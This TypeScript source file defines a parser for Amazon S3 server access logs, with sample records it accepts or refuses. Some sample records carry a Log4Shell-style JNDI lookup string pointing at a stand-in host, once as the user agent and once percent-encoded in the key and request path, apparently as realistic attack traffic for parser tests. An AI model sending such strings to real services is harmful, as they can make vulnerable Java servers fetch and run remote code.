import { readTime } from '../time/read-time.ts'
import { addressOf } from './address-of.ts'
import type { LogFormat } from './format.ts'
import { quotedFields, requestOf } from './quoted-fields.ts'

/**
 * Server access logs of Amazon S3: owner, bucket, time, address, requester, id, operation and key before the request in
 * quotes; referer, agent, and without quotes the host that a client named behind it. The key is percent-encoded, twice.
 */
export const s3Access: LogFormat = {
  id: 's3-access',
  summary: 'server access logs of Amazon S3',
  definedBy: 'https://docs.aws.amazon.com/AmazonS3/latest/userguide/LogFormat.html',
  examples: {
    reads: [
      {
        record:
          '79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be shop-images [12/Dec/2021:04:25:41 +0000] 203.0.113.9 - 3E57427F33A59F07 REST.GET.OBJECT a.png "GET /a.png?x=1 HTTP/1.1" 200 - 113 113 7 6 "-" "${jndi:ldap://x.example/a}" - s9lzHYrFp76ZVxRcpX9+5cjAnEH2ROuNkd2BHfIa6UkFVdtjf5mKR3/eTPFvsiP/XV/VLi31234= - ECDHE-RSA-AES128-GCM-SHA256 - shop-images.s3.us-west-1.amazonaws.com TLSv1.2 - -',
        when: '2021-12-12T04:25:41Z',
        from: '203.0.113.9',
        request: 'GET /a.png?x=1',
        userAgent: '${jndi:ldap://x.example/a}',
      },
      {
        record:
          '79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be shop-images [12/Dec/2021:04:25:41 +0000] 2001:db8::9 arn:aws:iam::123456789012:user/a 891CE47D2A1B2C3D WEBSITE.GET.OBJECT %2524%257Bjndi:ldap://x.example/a%257D "GET /%24%7Bjndi:ldap://x.example/a%7D HTTP/1.1" 404 NoSuchKey 242 - 11 - "https://www.example.com/" "curl/7.79.1" -',
        when: '2021-12-12T04:25:41Z',
        from: '2001:db8::9',
        request: 'GET /%24%7Bjndi:ldap://x.example/a%7D',
        userAgent: 'curl/7.79.1',
      },
      {
        // A lifecycle rule deleted it: nobody asked.
        record:
          '79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be shop-images [12/Dec/2021:04:25:41 +0000] - AmazonS3 68A0C4A1B2C3D4E5 S3.EXPIRE.OBJECT a.png "-" - - - 113 - - "-" "-" - s9lzHYrFp76ZVxRcpX9 -',
        when: '2021-12-12T04:25:41Z',
      },
    ],
    refuses: [
      '79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be shop-images [12/Dec/2021:04:25:41 +0000] 203.0.113.9',
      '203.0.113.9 shop-images [12/Dec/2021:04:25:41 +0000] 203.0.113.9 - 3E57427F33A59F07 REST.GET.OBJECT a.png "GET /a.png HTTP/1.1"',
    ],
  },
  read({ text }, { around }) {
    const head =
      /^[\da-f]{64} \S{3,255} \[([^\]]{10,40})\] (\S{1,60}) (\S{1,2048}) ([\dA-F]{1,64}|-) ((?:[A-Z\d]{2,20}\.){1,3}\w{1,64}) (\S{1,8192}) "/.exec(
        text,
      )
    if (head === null) return null
    const [whole, time = '', client, requester = '', , operation = '', key = ''] = head
    const [request = '', ...others] = quotedFields(text, whole.length - 1)
    const [referer = '-', userAgent = '-'] = others
    return {
      when: readTime(time, around),
      from: addressOf(client),
      request: requestOf(request),
      userAgent: userAgent === '-' ? null : userAgent,
      fields: [
        { name: 'requester', value: requester },
        { name: 'operation', value: operation },
        { name: 'key', value: key },
        { name: 'request', value: request },
        { name: 'referer', value: referer },
        { name: 'user agent', value: userAgent },
        { name: 'host', value: hostOf(text) },
        ...others.slice(2).map((value) => ({ name: null, value })),
      ],
    }
  },
}

/** What stands behind the last field in quotes. */
function hostOf(text: string): string {
  return text.slice(text.lastIndexOf('" ') + 2, text.length)
}
